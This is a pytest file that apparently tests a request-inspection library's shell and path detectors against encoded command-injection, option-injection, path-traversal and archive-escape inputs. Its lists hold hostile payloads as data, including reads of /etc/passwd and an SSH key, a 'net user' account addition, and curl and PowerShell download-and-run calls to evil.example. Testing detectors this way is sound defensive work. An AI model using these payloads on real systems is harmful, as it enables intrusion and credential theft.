"""Hostile cases B-118 and B-120: commands, options and paths, through the real inspector."""

from __future__ import annotations

import pytest
from tests.support.codings import PLACES, Coding, base64_of, escaped, once, references, twice, wide
from tests.support.suspects import STOPS, Suspects

from vallum.inspection.detectors import path, shell
from vallum.inspection.model import Location

SUSPECTS = Suspects(path.DETECTOR, shell.DETECTOR)


CODINGS: tuple[Coding, ...] = (str, once, twice, escaped, references, wide)
COMMANDS = (
    "; id",
    "$(id)",
    "`id`",
    "|id",
    "\nid",
    "x\nid",
    "x && curl http://evil.example/a",
    "{IFS}",
    ";cat${IFS}/etc/passwd",
    ";c'a't /etc/passwd",
    "& net user eve /add",
    "; iex (New-Object Net.WebClient).DownloadString('http://evil.example')",
)
PATHS = (
    "../../etc/passwd",
    "/etc/passwd",
    "php://filter/resource=x",
    "..\\..\\boot.ini",
    "uploads/../../../../root/.ssh/id_rsa",
)


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("text", COMMANDS)
def test_b118_command_injection_in_every_place(text: str, place: Location) -> None:
    assert SUSPECTS.score(text, place) >= STOPS


@pytest.mark.parametrize("coding", CODINGS)
@pytest.mark.parametrize("text", COMMANDS)
def test_b118_command_injection_in_every_coding(text: str, coding: Coding) -> None:
    assert SUSPECTS.score(coding(text)) >= STOPS


def test_b118_a_line_feed_that_is_still_encoded_parts_commands() -> None:
    assert SUSPECTS.score("127.0.0.1%0aid") >= STOPS


def test_b118_a_command_in_base64() -> None:
    assert SUSPECTS.score(base64_of("x;cat /etc/passwd;whoami")) >= STOPS


@pytest.mark.parametrize("text", ["--output=/etc/x", "-oProxyCommand=x", "-rf"])
@pytest.mark.parametrize("place", PLACES)
def test_b118_an_option_as_a_value(text: str, place: Location) -> None:
    assert SUSPECTS.score(text, place, name="filename") >= STOPS


def test_b118_a_command_as_a_name() -> None:
    assert SUSPECTS.score("x;cat /etc/passwd", "body", is_name=True) >= STOPS


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("text", PATHS)
def test_b120_traversal_in_every_place(text: str, place: Location) -> None:
    assert SUSPECTS.score(text, place, name="file") >= STOPS


@pytest.mark.parametrize("coding", CODINGS)
@pytest.mark.parametrize("text", PATHS)
def test_b120_traversal_in_every_coding(text: str, coding: Coding) -> None:
    assert SUSPECTS.score(coding(text), name="file") >= STOPS


@pytest.mark.parametrize(
    "text",
    ["../../etc/passwd", "/etc/passwd", "C:\\", "php://", "a.php\x00.png", "..%c0%af..%c0%afx"],
)
def test_b120_the_name_of_a_file(text: str) -> None:
    assert SUSPECTS.score(text, name="file") >= STOPS


@pytest.mark.parametrize("text", ["../../../tmp/x.sh", "a/../../../x", "..\\..\\x.dll"])
def test_b120_a_name_in_an_archive_that_leaves_it(text: str) -> None:
    assert SUSPECTS.score(text, "body", name="entry") >= STOPS
